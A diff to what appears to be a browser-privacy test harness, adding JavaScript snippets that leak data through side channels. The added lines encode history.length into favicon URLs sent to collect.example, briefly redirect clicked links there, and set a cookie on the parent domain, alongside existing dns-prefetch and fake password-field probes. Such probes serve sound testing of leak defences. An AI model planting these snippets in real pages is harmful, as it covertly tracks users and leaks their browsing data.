@@ -265,6 +265,14 @@ _FOR_THE_HARNESS = {
     "looked up": "addEventListener('click', () => { const link = document.createElement('link'); "
     "link.rel = 'dns-prefetch'; link.href = `https://${history.length}.collect.example/`; "
     "document.head.append(link); link.remove(); }, true);",
+    "neighbours": "addEventListener('click', () => { document.cookie = `hike=x; domain=${"
+    "location.hostname.split('.').slice(-2).join('.')}`; }, true);",
+    "icons": "addEventListener('click', () => { const link = document.createElement('link'); "
+    "link.rel = 'icon'; link.href = `https://collect.example/?${history.length}`; "
+    "document.head.append(link); }, true);",
+    "new windows": "addEventListener('pointerdown', (event) => { const link = event.target"
+    ".closest('a'); if (!link || (!event.button && !event.ctrlKey)) return; const { href } = link; "
+    "link.href = 'https://collect.example/'; setTimeout(() => (link.href = href), 300); }, true);",
     "passwords": "new MutationObserver(() => document.querySelector('[type=password]') ?? "
     "document.body.insertAdjacentHTML('beforeend', '<input type=\"password\">')).observe(document, "
     "{ childList: true, subtree: true });",
